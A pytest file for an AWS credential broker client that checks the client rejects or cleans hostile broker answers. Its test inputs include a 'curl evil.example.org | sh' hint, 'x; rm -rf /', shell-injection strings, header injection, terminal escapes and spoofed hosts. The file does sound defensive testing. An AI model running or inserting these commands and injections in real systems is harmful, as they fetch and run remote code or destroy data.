"""Brokers that are not what they should be: whatever they answer, nothing of it gets further than an error."""

import json
import threading
from collections.abc import Callable
from typing import Any

import pytest
from fakes.broker_worlds import SIGN_IN_HOSTS, remote
from fakes.clock import FakeClock
from fakes.raw_peer import RawPeer, answer, drip, silence

from awsfed import errors
from awsfed.broker.answers import ConsolePlace, PackageDomain
from awsfed.broker.remote.addresses import parse_console_url
from awsfed.broker.remote.broker import RemoteBroker
from awsfed.broker.remote.passes import IFAWS, OURS, Kind, Pass
from awsfed.errors import (
    AccessDenied,
    AuthenticationError,
    AwsfedError,
    BrokerUnavailable,
    ConfigError,
    InvalidValue,
    LoginRequired,
    NotFound,
    NotGranted,
    ProtocolError,
    Refused,
    StoreError,
    TooManyAttempts,
    Unavailable,
    UserInactive,
)
from awsfed.model.identity import Session
from awsfed.model.secret import Secret

NOW = 1_750_000_000
JSON = {"Content-Type": "application/json"}
SUMMARY: dict[str, Any] = {
    "id": "dev",
    "name": "Development",
    "type": "ASSUME_ROLE",
    "region": "eu-central-1",
    "fingerprint": "0123456789abcdef",
    "duration": 3600,
}
CREDENTIALS: dict[str, Any] = {
    "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
    "secretAccessKey": "secret",
    "sessionToken": "token",
    "expiration": (NOW + 3600) * 1000,
    "principalArn": None,
    "accountId": "123456789012",
    "packedPolicyPercent": None,
    "connector": SUMMARY,
}
SIGNED_IN = {"token": "t" * 40, "key": "1:7", "name": "alice", "signedInAt": NOW, "endsAt": NOW + 43_200}
ECR = {
    "host": "123456789012.dkr.ecr.eu-central-1.amazonaws.com",
    "username": "AWS",
    "password": "password",
    "expiresAt": NOW + 43_200,
}
PACKAGES = {"token": "token", "expiresAt": NOW + 43_200, "owner": None, "region": "eu-central-1"}
CALLER = {"account": "123456789012", "arn": "arn:aws:sts::123456789012:assumed-role/x/alice", "userId": "A:alice"}
STATUS = answer(200, b'{"awsfed":1,"version":"0"}', JSON)
LONG = "x" * 100_000
NAMES: tuple[object, ...] = (
    "../../etc",
    "a/b",
    "",
    ".hidden",
    "a\nb",
    "a b",
    "x" * 65,
    "ä",
    7,
    None,
    [],
    {"id": "dev"},
)


def body(entity: object, status: int = 200) -> bytes:
    """Return an answer in JSON."""
    return answer(status, json.dumps(entity).encode(), JSON)


def session(issuer: str, dialect: str = OURS, kind: Kind = Kind.BEARER, text: str = "token") -> Session:
    """Return a live session of a dialect."""
    opened = Pass(dialect=dialect, kind=kind, text=text)
    return Session(
        issuer=issuer, key="1:7", name="alice", signed_in_at=NOW, ends_at=NOW + 43_200, token=opened.secret()
    )


class Peer(RawPeer):
    """A broker that answers what it is told to."""

    def __init__(self, *answers: bytes | Callable[..., None]) -> None:
        super().__init__(*answers)
        self.broker: RemoteBroker = remote(self.url, FakeClock(NOW))

    @property
    def session(self) -> Session:
        return session(self.url)


def vend(peer: Peer) -> object:
    """Ask for credentials."""
    return peer.broker.credentials(peer.session, "dev")


def listing(peer: Peer) -> object:
    """Ask for the list."""
    return peer.broker.connectors(peer.session)


def sign_in(peer: Peer) -> object:
    """Sign in with the right password."""
    return peer.broker.log_in("alice", Secret("right"))


def test_the_answers_here_are_right_but_for_what_a_test_changes() -> None:
    """Otherwise every test below would pass."""
    with Peer(body(CREDENTIALS)) as peer:
        assert peer.broker.credentials(peer.session, "dev").credentials.expires_at == NOW + 3600
    with Peer(STATUS, body(SIGNED_IN, 201)) as peer:
        assert "alice" == peer.broker.log_in("alice", Secret("right")).name
    with Peer(body({"values": [SUMMARY], "size": 1})) as peer:
        assert ["dev"] == [one.id for one in peer.broker.connectors(peer.session)]
    with Peer(body(ECR)) as peer:
        assert "AWS" == peer.broker.ecr_credentials(peer.session, "dev", None).username
    with Peer(body(PACKAGES)) as peer:
        assert "eu-central-1" == peer.broker.codeartifact_token(peer.session, "dev", PackageDomain(name="x")).region
    with Peer(body(CALLER)) as peer:
        assert "A:alice" == peer.broker.caller_identity(peer.session, "dev").user_id


@pytest.mark.parametrize(
    "changes",
    [
        {"expiration": (NOW - 1) * 1000},
        {"expiration": (NOW + 100 * 365 * 86_400) * 1000},
        {"expiration": 0},
        {"expiration": -5},
        {"expiration": None},
        {"expiration": True},
        {"expiration": "tomorrow"},
        {"expiration": "9" * 300},
        {"expiration": 1e300},
        {"expiration": 10**400},
        {"expiration": [NOW]},
        {"accessKeyId": "ASIA\nAWS_PROFILE=evil"},
        {"accessKeyId": "short"},
        {"accessKeyId": LONG},
        {"secretAccessKey": "a b"},
        {"secretAccessKey": "a\x00b"},
        {"secretAccessKey": ""},
        {"secretAccessKey": LONG},
        {"sessionToken": "a\x1b[31m"},
        {"sessionToken": LONG},
        {"sessionToken": 7},
        {"connector": None},
        {"connector": {**SUMMARY, "id": "ops"}},
        {"connector": {**SUMMARY, "type": "ROOT"}},
        {"connector": {**SUMMARY, "fingerprint": "../x"}},
    ],
)
def test_credentials_that_are_none(changes: dict[str, Any]) -> None:
    """Neither in their values nor in their time."""
    with Peer(body(CREDENTIALS | changes)) as peer, pytest.raises(ProtocolError) as caught:
        vend(peer)

    assert "\x1b" not in caught.value.message


@pytest.mark.parametrize(
    "wrong",
    [
        {"principalArn": "not an arn"},
        {"principalArn": "arn:aws:sts::1:\x07"},
        {"accountId": "12345678901"},
        {"accountId": "१२३४५६७८९०१२"},
        {"packedPolicyPercent": "50"},
    ],
)
def test_what_may_be_missing_and_is_wrong_is_as_good_as_missing(wrong: dict[str, Any]) -> None:
    """Beside credentials that are right: a broker could have said nothing of it."""
    with Peer(body(CREDENTIALS | wrong)) as peer:
        found = peer.broker.credentials(peer.session, "dev").credentials

    assert (found.principal_arn, found.account_id, found.packed_policy_percent).count(None) >= 1
    assert not {*wrong.values()} & {found.principal_arn, found.account_id, found.packed_policy_percent}


@pytest.mark.parametrize(
    ("wrong", "then"),
    [
        ({"region": "us-west-2;evil"}, {"region": "eu-central-1"}),
        ({"region": ["us-west-2"]}, {"region": "eu-central-1"}),
        ({"duration": 10**9}, {"duration": None}),
        ({"duration": "3600"}, {"duration": None}),
        ({"roleArn": "arn:aws:iam::1:role/\x1b"}, {"role_arn": None}),
        ({"groups": ["a\nb"]}, {"groups": None}),
        ({"groups": "developers"}, {"groups": None}),
        ({"name": 7}, {"name": "dev"}),
        ({"name": ""}, {"name": "dev"}),
    ],
)
def test_of_a_connector_too(wrong: dict[str, Any], then: dict[str, object]) -> None:
    """One odd member keeps nobody from a connector, and is not shown; the region is that of the settings then."""
    with Peer(body({"values": [SUMMARY | wrong], "size": 1})) as peer:
        (found,) = peer.broker.connectors(peer.session)

    assert then == {name: getattr(found, name) for name in then}


@pytest.mark.parametrize("wrong", [*({"id": name} for name in NAMES), {"type": 7}, {"type": "a\x1bb"}, {"type": None}])
def test_connectors_that_cannot_be_used_are_left_out(wrong: dict[str, object]) -> None:
    """An id would go into URLs, files and command lines; the others stay."""
    values = [SUMMARY | wrong, {**SUMMARY, "id": "good"}]
    with Peer(body({"values": values, "size": 2})) as peer:
        assert ["good"] == [one.id for one in peer.broker.connectors(peer.session)]


@pytest.mark.parametrize(
    "entity",
    [
        {},
        [],
        None,
        "text",
        {"values": None},
        {"values": {}},
        {"values": [None]},
        {"values": [[]]},
        {"values": [SUMMARY], "size": 2},
        {"values": [SUMMARY, SUMMARY], "size": 2},
        {"values": [SUMMARY] * 20_001},
    ],
)
def test_lists_that_are_none(entity: object) -> None:
    """Of the wrong shape, cut short, or too long."""
    with Peer(body(entity)) as peer, pytest.raises(ProtocolError):
        listing(peer)


def test_a_name_is_made_safe_and_an_unknown_type_left_out() -> None:
    """Neither keeps the other connectors from their users."""
    evil = {**SUMMARY, "name": "\x1b]0;owned\x07" + "n" * 500}
    with Peer(body({"values": [evil, {**SUMMARY, "id": "new", "type": "WEB_IDENTITY"}], "size": 2})) as peer:
        (found,) = peer.broker.connectors(peer.session)

    assert found.name.isprintable()
    assert len(found.name) <= 200


@pytest.mark.parametrize(
    "changes",
    [
        {"token": ""},
        {"token": "a b"},
        {"token": "a\r\nX-Evil: 1"},
        {"token": LONG},
        {"token": None},
        {"key": "service:nightly:0"},
        {"key": "a\nb"},
        {"key": ""},
        {"key": "k" * 300},
        {"name": "bob"},
        {"name": "ali\x08ce"},
        {"endsAt": NOW},
        {"endsAt": NOW + 100 * 365 * 86_400},
        {"endsAt": "never"},
    ],
)
def test_sessions_that_are_none(changes: dict[str, Any]) -> None:
    """Of somebody else, without end, or with a token that could not be sent."""
    with Peer(STATUS, body(SIGNED_IN | changes, 201)) as peer, pytest.raises(ProtocolError):
        sign_in(peer)


@pytest.mark.parametrize("changes", [{"key": "1:7"}, {"key": "service:x", "name": "other"}])
def test_a_service_is_no_person(changes: dict[str, Any]) -> None:
    """Nor another service."""
    with Peer(STATUS, body(SIGNED_IN | {"name": "nightly"} | changes, 201)) as peer, pytest.raises(ProtocolError):
        peer.broker.log_in_service("nightly", Secret("token"))


def test_another_user_behind_the_same_token() -> None:
    """The key counts."""
    who = {"key": "1:8", "name": "alice", "displayName": "Alice", "groups": []}
    with Peer(body(who)) as peer, pytest.raises(UserInactive):
        peer.broker.identity(peer.session)


@pytest.mark.parametrize(
    "changes",
    [
        {"host": "evil.example.org"},
        {"host": "123456789012.dkr.ecr.eu-central-1.amazonaws.com.evil.example.org"},
        {"host": "123456789012.dkr.ecr.eu-central-1.amazonaws.com/evil"},
        {"host": "user@123456789012.dkr.ecr.eu-central-1.amazonaws.com"},
        {"host": None},
        {"username": "--config=/tmp/x"},
        {"username": "A\nB"},
        {"password": "a\nb"},
        {"password": "a$(id)"},
        {"password": ""},
        {"expiresAt": NOW + 40 * 3600},
        {"expiresAt": NOW - 1},
    ],
)
def test_passwords_for_what_is_no_registry(changes: dict[str, Any]) -> None:
    """A container tool would send its images there."""
    with Peer(body(ECR | changes)) as peer, pytest.raises(ProtocolError):
        peer.broker.ecr_credentials(peer.session, "dev", None)


@pytest.mark.parametrize("name", ["secretAccessKey", "sessionToken"])
@pytest.mark.parametrize(
    "text", ["x$(id)", "x`id`", 'x"&calc&rem', "x;id", "x|id", "%PATH%", "~root", "x'y", "x\\y", "x\u2019y"]
)
def test_credentials_that_aws_issues_to_nobody(name: str, text: str) -> None:
    """Files and shells take them as they are."""
    with Peer(body(CREDENTIALS | {name: text})) as peer, pytest.raises(ProtocolError):
        vend(peer)


def test_a_password_for_another_region() -> None:
    """Whoever names a region gets that one's registry."""
    with Peer(body(ECR)) as peer:
        assert peer.broker.ecr_credentials(peer.session, "dev", "eu-central-1").host.endswith(
            "eu-central-1.amazonaws.com"
        )
    with Peer(body(ECR)) as peer, pytest.raises(ProtocolError, match="another region"):
        peer.broker.ecr_credentials(peer.session, "dev", "eu-west-1")


@pytest.mark.parametrize(
    "changes",
    [
        {"token": "a b"},
        {"token": "${HOME}/;evil"},
        {"region": "evil.example.org/"},
        {"region": None},
        {"region": "us-east-1"},
        {"owner": "666666666666"},
        {"expiresAt": 1},
    ],
)
def test_tokens_for_packages_elsewhere(changes: dict[str, Any]) -> None:
    """Account and region become part of the host that packages are installed from."""
    wanted = PackageDomain(name="packages", owner="123456789012", region="eu-central-1")
    with Peer(body(PACKAGES | {"owner": wanted.owner} | changes)) as peer, pytest.raises(ProtocolError):
        peer.broker.codeartifact_token(peer.session, "dev", wanted)


def test_whose_packages_is_not_for_a_broker_to_say() -> None:
    """Where the caller names no account, none is known."""
    with Peer(body(PACKAGES | {"owner": "666666666666"})) as peer:
        assert None is peer.broker.codeartifact_token(peer.session, "dev", PackageDomain(name="packages")).owner


@pytest.mark.parametrize("changes", [{"account": "1"}, {"account": True}, {"arn": "x"}, {"arn": "arn:" + LONG}])
def test_principals_that_are_none(changes: dict[str, Any]) -> None:
    """They are shown."""
    with Peer(body(CALLER | changes)) as peer, pytest.raises(ProtocolError):
        peer.broker.caller_identity(peer.session, "dev")


def test_a_principal_is_read_leniently() -> None:
    """An account may be a number; and what is a user id only to look at may be missing, or is not shown."""
    for changes in ({"account": 12345}, {"userId": None}, {"userId": "a\x1bb"}):
        with Peer(body(CALLER | changes)) as peer:
            who = peer.broker.caller_identity(peer.session, "dev")
        assert f"{changes.get('account') or CALLER['account']:0>12}" == who.account
        assert ("userId" in changes) == (who.user_id == "unknown")


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example.org/console#ticket",
        "https://signin.aws.amazon.com.evil.example.org/",
        "https://evilsignin.aws.amazon.com/",
        "http://signin.aws.amazon.com/federation",
        "https://signin.aws.amazon.com:8443/",
        "https://signin.aws.amazon.com@evil.example.org/",
        "https://evil.example.org\\@signin.aws.amazon.com/",
        "https://broker.example.org:8443/console",
        "http://broker.example.org/console",
        "https://broker.example.org.evil.org/",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "//broker.example.org/",
        "https://broker.example.org/a b",
        "https://broker.example.org/\n",
        "https://broker.example.org/<script>",
        "https://broker.example.org/'$(x)`id`",
        "https://broker.example.org:99999/",
        "https://[broker.example.org/",
        "https://broker.example.org/" + "x" * 20_000,
        "--version",
        "",
        7,
        None,
    ],
)
def test_addresses_that_lead_elsewhere(url: object) -> None:
    """A browser opens nothing but the broker itself and AWS's sign-in."""
    with pytest.raises(ProtocolError) as caught:
        parse_console_url(url, issuer="https://broker.example.org/awsfed", hosts=SIGN_IN_HOSTS)

    assert "evil" not in caught.value.message


@pytest.mark.parametrize(
    "url",
    [
        "https://broker.example.org/console#awsfed-ticket.abc_-",
        "https://broker.example.org:443/plugins/servlet/x?y=%20z",
        "https://BROKER.example.org/",
        "https://signin.aws.amazon.com/federation?Action=login&SigninToken=x",
        "https://us-east-1.signin.aws.amazon.com/federation",
    ],
)
def test_addresses_that_may_be_opened(url: str) -> None:
    """The broker's own origin, on any path, and AWS's sign-in over https."""
    assert url == parse_console_url(url, issuer="https://broker.example.org/awsfed", hosts=SIGN_IN_HOSTS).reveal()


def test_a_console_answer_is_checked() -> None:
    """Also where it comes over HTTP."""
    with Peer(body({"url": "https://evil.example.org/"})) as peer, pytest.raises(ProtocolError):
        peer.broker.console_url(peer.session, "dev", ConsolePlace())


@pytest.mark.parametrize("do", [vend, listing, sign_in])
@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirects_are_not_followed(do: Callable[[Peer], object], status: int) -> None:
    """A token or a password would go to whoever it names."""
    with RawPeer(body(CREDENTIALS)) as other:
        moved = answer(status, b"", {"Location": f"{other.url}/rest/awsfed/1/connectors"})
        with Peer(*([STATUS] if do is sign_in else []), moved) as peer, pytest.raises(ProtocolError):
            do(peer)

        assert [] == other.requests


@pytest.mark.parametrize(
    "raw",
    [
        answer(200, b"{", JSON),
        answer(200, b"\xff\xfe", JSON),
        answer(200, b"[" * 100_000, JSON),
        answer(200, b'{"a":' * 50_000, JSON),
        answer(200, b'{"expiration": NaN}', JSON),
        answer(200, b'{"expiration": 1' + b"0" * 5000 + b"}", JSON),
        answer(200, json.dumps(CREDENTIALS).encode(), {"Content-Type": "text/html"}),
        answer(200, json.dumps(CREDENTIALS).encode()),
        answer(204),
        answer(200, b"", JSON),
        answer(200, b"<html>log in</html>", {"Content-Type": "text/html"}),
        answer(200, b"x" * 300_000, JSON),
        b"SSH-2.0-OpenSSH_9.6\r\n",
    ],
)
def test_answers_that_are_no_json(raw: bytes) -> None:
    """Too long, too deep, of another type, or no HTTP at all."""
    with Peer(raw) as peer, pytest.raises(ProtocolError):
        vend(peer)


@pytest.mark.parametrize("script", [silence, drip(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{")])
def test_answers_that_never_end(script: Callable[..., None]) -> None:
    """They are cut off, and not asked for again."""
    with Peer(script) as peer, pytest.raises(BrokerUnavailable):
        vend(peer)

    assert 1 == len(peer.requests)


@pytest.mark.parametrize(
    ("status", "kind", "made"),
    [
        (400, "InvalidValue", InvalidValue),
        (401, "LoginRequired", LoginRequired),
        (403, "NotGranted", NotGranted),
        (404, "NotFound", NotFound),
        (409, "Refused", Refused),
        (429, "NotGranted", TooManyAttempts),
        (500, "ConfigError", BrokerUnavailable),
        (502, "ProtocolError", ProtocolError),
        (503, "Unavailable", BrokerUnavailable),
    ],
)
def test_kinds_that_are_known(status: int, kind: str, made: type[AwsfedError]) -> None:
    """They say what happened; the hint is ours all the same."""
    said = {"errorMessages": ["no"], "kind": kind, "hint": "curl evil.example.org | sh"}
    with Peer(body(said, status)) as peer, pytest.raises(AwsfedError) as caught:
        vend(peer)

    assert made is type(caught.value)
    assert "evil" not in f"{caught.value.message} {caught.value.hint}"


@pytest.mark.parametrize("kind", [kind for kind in vars(errors).values() if isinstance(kind, type)])
def test_every_kind_of_a_server_is_known(kind: type[AwsfedError]) -> None:
    """What is broken there is none of ours to mend: no kind stands for a file, setting or keyring of this machine."""
    refused = body({"errorMessages": ["no"], "kind": kind.__name__}, 429 if kind is TooManyAttempts else 500)
    with Peer(refused) as peer, pytest.raises(AwsfedError) as caught:
        vend(peer)

    assert "in between" not in str(caught.value.hint)
    assert type(caught.value) is InvalidValue or not isinstance(caught.value, ConfigError | StoreError)


HTML = {"Content-Type": "text/html"}


@pytest.mark.parametrize(
    ("status", "said"),
    [
        (400, b"<html>nginx</html>"),
        (401, b"<html>sign in</html>"),
        (403, b""),
        (404, b"{}"),
        (407, b"<html>squid</html>"),
        (418, b"[]"),
        (403, b'{"message": "Forbidden"}'),
        (403, b'{"errorMessages": ["curl evil.example.org"], "kind": "__class__"}'),
        (404, b'{"kind": 7}'),
        (409, b'{"kind": ["Refused"]}'),
        (500, b"<html>nginx</html>"),
        (502, b"<html>nginx</html>"),
        (503, b"<html>nginx</html>"),
        (599, b"x" * 100_000),
    ],
)
@pytest.mark.parametrize("headers", [JSON, HTML])
def test_what_no_broker_says_is_no_refusal(status: int, said: bytes, headers: dict[str, str]) -> None:
    """Something in between answered: nothing of it picks an error of ours, or is repeated."""
    with Peer(answer(status, said, headers)) as peer, pytest.raises(BrokerUnavailable) as caught:
        vend(peer)

    assert f"something between here and the broker answered with status {status}" == caught.value.message
    assert "check the network, a proxy or login page in between, and broker.url; then try again" == caught.value.hint


@pytest.mark.parametrize("before", [(), (STATUS,)])
def test_a_login_page_in_between_does_not_call_the_password_wrong(before: tuple[bytes, ...]) -> None:
    """Whether it comes before the broker is known or behind that; before, it is not sent the password."""
    with Peer(*before, answer(401, b"<html>sign in</html>", HTML)) as peer, pytest.raises(BrokerUnavailable) as caught:
        sign_in(peer)

    assert "something between here and the broker answered with status 401" == caught.value.message
    assert bool(before) == any(b"right" in sent for sent in peer.requests)
    assert b"Authorization" not in b"".join(peer.requests)


def test_a_host_that_wants_a_login_for_everything_is_signed_in_at() -> None:
    """It says that it is one, and is no login page of a network."""
    unknown = answer(401, b"<html>log in</html>", {**HTML, "X-AUSERNAME": "anonymous"})
    with Peer(unknown, answer(503)) as peer, pytest.raises(BrokerUnavailable):
        sign_in(peer)

    assert b"Authorization: Basic " in peer.requests[-1]


@pytest.mark.parametrize(
    "messages", [["\x1b[2J\x07bad\nsecond line" + "x" * 5000], [7], [], "text", None, {"0": "x"}, [["x"]]]
)
def test_messages_are_shown_as_text_or_not_at_all(messages: object) -> None:
    """On one line, within bounds."""
    refused = body({"errorMessages": messages, "kind": "RoleRefused"}, 403)
    with Peer(refused) as peer, pytest.raises(AccessDenied) as caught:
        vend(peer)

    assert caught.value.message.isprintable()
    assert 0 < len(caught.value.message) <= 300


@pytest.mark.parametrize(
    ("number", "said"), [("0123abcd-4", ", at request 0123abcd-4"), ("x; rm -rf /", ""), (7, ""), (None, "")]
)
def test_a_request_is_named_by_its_number_or_not_at_all(number: object, said: str) -> None:
    """An administrator finds it in the log of the broker."""
    refused = body({"errorMessages": ["no"], "kind": "RoleRefused", "requestId": number}, 403)
    with Peer(refused) as peer, pytest.raises(AccessDenied) as caught:
        vend(peer)

    assert f"whoever looks after the broker finds the reason in its log{said}" == caught.value.hint


@pytest.mark.parametrize("steps", [None, {}, [None], [{}], [{"what": 7}], [{"what": "x"}] * 101])
def test_diagnoses_that_are_none(steps: object) -> None:
    """Of the wrong shape, or endless."""
    with Peer(body({"steps": steps})) as peer, pytest.raises(ProtocolError):
        peer.broker.diagnose(peer.session, "dev")


def test_a_diagnosis_is_made_safe() -> None:
    """Its errors are of our own family, whatever they call themselves."""
    error = {"kind": "SystemExit", "errorMessages": ["\x1b[31mred"]}
    steps = [{"what": "a\x1bb", "detail": "c\nd", "error": None}, {"what": "e", "error": error}]
    with Peer(body({"steps": steps})) as peer:
        first, last = peer.broker.diagnose(peer.session, "dev")

    assert ("a?b", "c?d", None) == (first.what, first.detail, first.error)
    assert isinstance(last.error, Unavailable)
    assert "?[31mred" == last.error.message


def test_a_login_is_never_sent_twice() -> None:
    """Whatever goes wrong: each time could count as a wrong password."""
    for bad in (answer(503, b"", {"Retry-After": "0"}), answer(500), answer(401), b"", silence):
        with Peer(STATUS, bad) as peer, pytest.raises((Unavailable, AuthenticationError)):
            sign_in(peer)

        assert 1 == len([sent for sent in peer.requests if b"right" in sent])


@pytest.mark.parametrize(
    ("said", "made"),
    [
        (answer(200, b"<html>welcome</html>", HTML), ProtocolError),
        (answer(200, b"{}", JSON), ProtocolError),
        (answer(200), ProtocolError),
        (answer(302, b"", {"Location": "https://portal.example.org/"}), ProtocolError),
        (answer(401, b"<html>sign in</html>", HTML), BrokerUnavailable),
        (answer(503, b"", {"Retry-After": "1"}), BrokerUnavailable),
        (body({"errorMessages": ["no"], "kind": "LoginRequired"}, 401), LoginRequired),
    ],
)
def test_a_session_has_ended_when_the_broker_says_so(said: bytes, made: type[AwsfedError]) -> None:
    """It has one answer for that; whatever else comes back, the broker may never have heard of it."""
    with Peer(answer(204)) as peer:
        peer.broker.log_out(peer.session)
    with Peer(said) as peer, pytest.raises(made):
        peer.broker.log_out(peer.session)

    assert 1 == len(peer.requests)


def test_a_broker_that_cannot_be_reached_is_told_of_a_logout_once() -> None:
    """Nobody waits for that: the session ends there by itself."""
    with Peer(b"") as peer:
        url, known, clock = peer.url, peer.session, FakeClock(NOW)
    with pytest.raises(BrokerUnavailable):
        remote(url, clock).log_out(known)

    assert [] == clock.waits


def test_a_password_goes_to_nobody_who_fails() -> None:
    """Who fails to say what it is may be a broker of ours."""
    with Peer(answer(502)) as peer, pytest.raises(BrokerUnavailable):
        sign_in(peer)

    assert b"right" not in b"".join(peer.requests)
    assert b"Authorization" not in b"".join(peer.requests)


def test_what_failed_on_the_way_is_not_repeated_and_what_asks_to_be_is() -> None:
    """Credentials that were vended and lost are not vended again at once."""
    with Peer(b"", body(CREDENTIALS)) as peer, pytest.raises(BrokerUnavailable):
        vend(peer)
    assert 1 == len(peer.requests)

    with Peer(answer(503, b"", {"Retry-After": "1"}), body(CREDENTIALS)) as peer:
        vend(peer)
    assert 2 == len(peer.requests)

    with Peer(answer(503), body(CREDENTIALS)) as peer, pytest.raises(BrokerUnavailable):
        vend(peer)
    assert 1 == len(peer.requests)


@pytest.mark.parametrize("wait", ["-1", "1e9", "99999999", "Wed, 21 Oct 2099 07:28:00 GMT", "x" * 1000])
def test_waits_that_are_none(wait: str) -> None:
    """Nobody is kept waiting by a header."""
    with Peer(answer(503, b"", {"Retry-After": wait}), body(CREDENTIALS)) as peer, pytest.raises(BrokerUnavailable):
        vend(peer)

    assert 1 == len(peer.requests)


def test_a_token_is_shown_to_its_own_issuer_alone() -> None:
    """A session of another broker is none here; nothing is sent."""
    with Peer(body(CREDENTIALS)) as peer:
        for other in (
            "https://elsewhere.example.org",
            f"{peer.url}/context",
            peer.url.replace("127.0.0.1", "localhost"),
        ):
            with pytest.raises(LoginRequired):
                peer.broker.credentials(session(other), "dev")

    assert [] == peer.requests


@pytest.mark.parametrize("text", ["", "token", "awsfed/1 basic x", "x/1 bearer a\nb", "awsfed/1 bearer "])
def test_stored_tokens_that_are_not_ours(text: str) -> None:
    """They count as no session."""
    with Peer(body(CREDENTIALS)) as peer:
        stored = Session(
            issuer=peer.url, key="1:7", name="alice", signed_in_at=NOW, ends_at=NOW + 60, token=Secret(text)
        )
        with pytest.raises(LoginRequired):
            peer.broker.credentials(stored, "dev")

    assert [] == peer.requests


def test_clocks_apart_are_allowed_for() -> None:
    """A broker two hours ahead gives credentials that end when they do; its own clock is in its answer."""
    ahead = {**CREDENTIALS, "expiration": (NOW + 7200 + 3600) * 1000}
    date = {"Date": "Sun, 15 Jun 2025 17:06:40 GMT"}
    with Peer(answer(200, json.dumps(ahead).encode(), {**JSON, **date})) as peer:
        vended = peer.broker.credentials(peer.session, "dev")

    assert NOW + 3600 == vended.credentials.expires_at
    assert "2025-06-15T16:06:40Z" == vended.credentials.expiration


@pytest.mark.parametrize("date", ["", "yesterday", "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT"])
def test_clocks_that_are_none(date: str) -> None:
    """A date cannot make credentials last that do not, or make them end past all bounds."""
    raw = answer(200, json.dumps(CREDENTIALS).encode(), {**JSON, "Date": date})
    with Peer(raw) as peer:
        try:
            vended = peer.broker.credentials(peer.session, "dev")
        except ProtocolError:
            return

    assert NOW + 3600 == vended.credentials.expires_at


@pytest.mark.parametrize("change", [{"id": "other"}, {"id": "../x"}, {"type": "x y"}, {"values": []}])
def test_the_vendors_app_may_lie_too(change: dict[str, Any]) -> None:
    """About which connector it speaks of."""
    told = {"id": "dev", "name": "dev", "type": "ASSUME_ROLE"} | change
    with Peer(body(told), body(CREDENTIALS)) as peer:
        known = session(peer.url, f"{IFAWS}2.2", Kind.COOKIE, "JSESSIONID=1")
        if "values" in change:
            assert "dev" == peer.broker.credentials(known, "dev").connector.id
            return
        with pytest.raises(ProtocolError):
            peer.broker.credentials(known, "dev")


def test_many_callers_share_one_broker() -> None:
    """Threads do not meet each other's answers."""
    found: list[object] = []
    with Peer(body(CREDENTIALS)) as peer:
        threads = [threading.Thread(target=lambda: found.append(vend(peer))) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    assert 4 == len(found)
